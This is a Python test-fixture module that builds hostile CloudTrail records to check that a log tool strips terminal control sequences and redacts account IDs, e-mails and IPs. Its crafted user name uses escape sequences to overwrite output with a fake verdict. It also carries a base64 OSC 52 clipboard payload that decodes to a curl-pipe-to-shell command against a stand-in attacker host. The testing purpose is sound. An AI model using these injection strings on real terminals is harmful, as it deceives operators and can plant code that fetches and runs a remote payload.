"""Hostile inputs for issue 17 items 3 (terminal injection) and 6 (redaction leaks), built at test time.

(h17-term's part of the adversarial corpus; the lead merges it into tests/hostile.py.)
"""
from __future__ import annotations

import gzip
import json
from pathlib import Path

INSTANCE = "i-04c2a9e71d3b58f06"
ACCOUNT = "111122223333"
EVENT_ID = "8edf518c-0581-4908-afaa-c3670dcbf0dc"

#: what a crafted name does on a terminal: ESC[2K erases the line, CR returns to its start, and a fake verdict
#: is written over it; OSC 52 sets the clipboard; CSI in its 8-bit C1 form; bidi overrides and isolates reorder
#: what is shown; a zero-width space and an invisible tag character hide text; DEL and a lone NUL.
FAKE_VERDICT = f"{INSTANCE} was rebooted by AWS after a host failure"
ERASE = "\x1b[2K\r"
OSC52 = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07"
HOSTILE_NAME = f"mallory{ERASE}{FAKE_VERDICT}{OSC52}\u202egnp.exe\u202c\u2066x\u2069\x9b31m\x7f\u200b\U000e0041\x00"
HOSTILE_AGENT = f"aws-cli/2.15.0 {ERASE}{OSC52}\x1b[8mhidden\x1b[0m\r\n\u202etxt.sh\u202c\x85\u2028"

#: raw bytes (UTF-8) that a terminal acts on; none may reach the terminal
RAW_CONTROLS = [b"\x1b", b"\r", b"\x07", b"\x00", b"\x7f", "\x9b".encode(), "\x85".encode(), "\u202e".encode(),
                "\u202c".encode(), "\u2066".encode(), "\u2069".encode(), "\u200b".encode(), "\u2028".encode(),
                "\U000e0041".encode()]


def reboot_record(user_name: str = HOSTILE_NAME, user_agent: str = HOSTILE_AGENT, *, account: str = ACCOUNT,
                  ip: str = "198.51.100.40") -> dict:
    """A console RebootInstances of :data:`INSTANCE` by an IAM user whose name and agent are ``user_name``,
    ``user_agent`` (the demo's incident 1, as CloudTrail writes it)."""
    return {
        "eventVersion": "1.10",
        "userIdentity": {"type": "IAMUser", "principalId": "AIDAR6SYJGSXNYK4KOFX2",
                         "arn": f"arn:aws:iam::{account}:user/{user_name}", "accountId": account,
                         "accessKeyId": "ASIAEUUAYTWI7CAJIPWF", "userName": user_name,
                         "sessionContext": {"attributes": {"creationDate": "2026-10-06T14:17:05Z",
                                                           "mfaAuthenticated": "true"}}},
        "eventTime": "2026-10-06T14:22:31Z", "eventSource": "ec2.amazonaws.com", "eventName": "RebootInstances",
        "awsRegion": "us-east-1", "sourceIPAddress": ip, "userAgent": user_agent,
        "requestParameters": {"instancesSet": {"items": [{"instanceId": INSTANCE}]}},
        "responseElements": {"requestId": "2169bf4d-e41e-4274-950e-c0d9219b3f28", "_return": True},
        "requestID": "2169bf4d-e41e-4274-950e-c0d9219b3f28", "eventID": EVENT_ID, "readOnly": False,
        "eventType": "AwsApiCall", "managementEvent": True, "recipientAccountId": account,
        "eventCategory": "Management",
    }


def hostile_terminal_trail(root: Path, *, account: str = ACCOUNT) -> Path:
    """A trail folder (the AWSLogs/... layout) holding one RebootInstances whose userName and userAgent carry
    terminal escapes; returns ``root``."""
    day = root / "AWSLogs" / account / "CloudTrail" / "us-east-1" / "2026" / "10" / "06"
    day.mkdir(parents=True, exist_ok=True)
    name = day / f"{account}_CloudTrail_us-east-1_20261006T1425Z_h17TermHostile01.json.gz"
    name.write_bytes(gzip.compress(json.dumps({"Records": [reboot_record(account=account)]}).encode()))
    return root


# ---- item 6: values a redacted report must not keep, in the forms they take in real records -----------------------

#: the trail's own account, the account of a caller from another account, an e-mail, an address
LEAK_ACCOUNT, LEAK_CALLER_ACCOUNT, LEAK_EMAIL, LEAK_IPV4 = "111122223333", "444455556666", "alice@example.com", \
    "198.51.100.99"
#: every form each of them takes below; none may remain in a redacted output
LEAK_FORMS = ("111122223333", "1111-2222-3333", "%3A111122223333", "444455556666", "4444-5555-6666", "alice@example.com",
              "alice%40example.com", "alice%2540example.com", "198.51.100.99", "198%2E51%2E100%2E99", ".51.100.99",
              "alice&#64;example.com")


def leaky_reboot_record() -> dict:
    """A RebootInstances as an assumed role from another account, called through the console from an IPv4-mapped
    IPv6 address, whose request carries the account and an e-mail URL-encoded (as a console URL or a presigned URL
    does), dashed (as the console shows account IDs) and twice encoded."""
    rec = reboot_record(user_name="Admin", user_agent=(
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/129.0 Safari/537.36 "
        "Referer=https://us-east-1.console.aws.amazon.com/ec2/home?region=us-east-1#Instances:"
        "v=3;owner%3A111122223333;login_hint=alice%40example.com;next=%2Fbilling%3Fa%3Dalice%2540example.com;"
        "acct=4444-5555-6666;ip=198%2E51%2E100%2E99;note=alice&#64;example.com"), ip=f"::ffff:{LEAK_IPV4}")
    rec["userIdentity"] = {
        "type": "AssumedRole", "principalId": f"AROA77LMHYXFOEGNXIVOQ:{LEAK_EMAIL}",
        "arn": f"arn:aws:sts::{LEAK_CALLER_ACCOUNT}:assumed-role/Admin/{LEAK_EMAIL}",
        "accountId": LEAK_CALLER_ACCOUNT, "accessKeyId": "ASIAEUUAYTWI7CAJIPWF",
        "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": "AROA77LMHYXFOEGNXIVOQ",
                                             "arn": f"arn:aws:iam::{LEAK_CALLER_ACCOUNT}:role/Admin",
                                             "accountId": LEAK_CALLER_ACCOUNT, "userName": "Admin"},
                           "attributes": {"creationDate": "2026-10-06T14:17:05Z", "mfaAuthenticated": "false"}}}
    rec["requestParameters"]["clientToken"] = "https%3A%2F%2Fsignin.aws.amazon.com%2Ffederation%3Faccount%3D1111-2222-3333"
    return rec


def leaky_trail(root: Path) -> Path:
    """A trail folder holding :func:`leaky_reboot_record`; returns ``root``."""
    day = root / "AWSLogs" / LEAK_ACCOUNT / "CloudTrail" / "us-east-1" / "2026" / "10" / "06"
    day.mkdir(parents=True, exist_ok=True)
    name = day / f"{LEAK_ACCOUNT}_CloudTrail_us-east-1_20261006T1425Z_h17TermLeaky0001.json.gz"
    name.write_bytes(gzip.compress(json.dumps({"Records": [leaky_reboot_record()]}).encode()))
    return root
